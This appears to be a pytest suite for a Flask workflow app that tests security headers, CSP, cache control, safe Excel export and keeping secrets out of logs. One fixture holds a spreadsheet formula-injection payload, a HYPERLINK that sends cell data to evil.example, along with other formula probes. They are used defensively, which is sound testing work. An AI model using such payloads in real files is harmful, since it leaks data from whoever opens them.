"""Issue 9 item 8: security headers, CSP without inline scripts, no-store on private pages,
formula-like Excel cells written as text, SQL parameters never logged."""

from __future__ import annotations

import io
import logging
import re
import zipfile
from pathlib import Path

import pytest
from flask import Response
from openpyxl import load_workbook
from sqlalchemy.exc import IntegrityError

from workflow_app.auth.models import User
from workflow_app.extensions import db
from workflow_app.security import headers
from workflow_app.workflow.states import TeamRole

ROOT = Path(__file__).resolve().parents[2]


def _script_src(csp: str) -> str:
    return next(p for p in csp.split(";") if p.strip().startswith("script-src")).strip()


def test_private_page_has_every_header_and_no_store(make, login):
    user = make.user(is_preparer=True)
    db.session.commit()
    response = login(user).get("/")
    assert response.status_code in (200, 302)
    h = response.headers
    assert _script_src(h["Content-Security-Policy"]) == "script-src 'self'"
    assert "frame-ancestors 'none'" in h["Content-Security-Policy"]
    assert h["X-Content-Type-Options"] == "nosniff"
    assert h["X-Frame-Options"] == "DENY"
    assert h["Referrer-Policy"] == "same-origin"
    assert h["Cache-Control"] == "no-store"
    assert "Server" not in h
    assert "Strict-Transport-Security" not in h  # not in testing


def test_login_page_and_errors_are_not_cached(client):
    assert client.get("/login").headers["Cache-Control"] == "no-store"
    missing = client.get("/evaluations/99999999999999")
    assert missing.status_code == 404
    assert missing.headers["Cache-Control"] == "no-store"
    assert "Content-Security-Policy" in missing.headers


def test_public_portal_may_be_cached_but_keeps_the_headers(client):
    response = client.get("/public/")
    assert response.status_code == 200
    assert response.headers.get("Cache-Control") != "no-store"
    assert response.headers["X-Frame-Options"] == "DENY"


def test_hsts_only_in_production():
    production = headers.apply(Response("x"), production=True, hsts_seconds=31536000)
    assert production.headers["Strict-Transport-Security"].startswith("max-age=31536000")
    development = headers.apply(Response("x"), production=False, hsts_seconds=31536000)
    assert "Strict-Transport-Security" not in development.headers


def test_no_template_has_an_inline_script_or_handler():
    offenders = []
    for path in (ROOT / "templates").rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        for match in re.finditer(r"<script\b([^>]*)>", text):
            if "src=" not in match.group(1):
                offenders.append(f"{path.name}: inline <script>")
        for match in re.finditer(r"\son[a-z]+\s*=\s*[\"']", text):
            offenders.append(f"{path.name}: {match.group().strip()}")
        if "javascript:" in text:
            offenders.append(f"{path.name}: javascript: URL")
    assert offenders == []


def test_rendered_detail_page_has_no_inline_script(make, login):
    preparer = make.user(is_preparer=True)
    evaluation = make.evaluation(preparer.unit, preparer=preparer,
                                 team=[(make.user(preparer.unit), TeamRole.LEADER)])
    db.session.commit()
    html = login(preparer).get(f"/evaluations/{evaluation.id}").get_data(as_text=True)
    assert "<main" in html
    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html)
    assert not re.search(r"\son(submit|click|load|change)=", html)


def test_formula_like_names_are_exported_as_text(make):
    from workflow_app.exchange.excel import export_xlsx

    evaluation = make.evaluation(leaves=[
        ('=HYPERLINK("http://evil.example/?x="&A1,"点我")', "40", "40"),
        ("+1+2", "20", "20"), ("-3+4", "20", "20"), ("@SUM(A1)", "20", "20"),
    ])
    evaluation.overall_goal = "=1+1"
    data = export_xlsx(evaluation)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    ws = load_workbook(io.BytesIO(data)).active
    found = [c for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert found and all(c.data_type == "s" for c in found)


def test_sql_parameters_never_reach_the_logs(make, caplog):
    existing = make.user()
    db.session.commit()
    intruder = User(username=existing.username, name="重复", unit=existing.unit)
    intruder.set_password("Very-Secret-Pass-9")
    secret_hash = intruder.password_hash
    db.session.add(intruder)
    caplog.set_level(logging.DEBUG)
    logging.getLogger("sqlalchemy.engine").setLevel(logging.INFO)
    try:
        with pytest.raises(IntegrityError) as info:
            db.session.flush()
        logging.getLogger("workflow_app").exception("insert failed: %s", info.value)
    finally:
        logging.getLogger("sqlalchemy.engine").setLevel(logging.WARNING)
        db.session.rollback()
    assert secret_hash not in str(info.value)
    assert secret_hash not in caplog.text
    assert "insert failed" in caplog.text
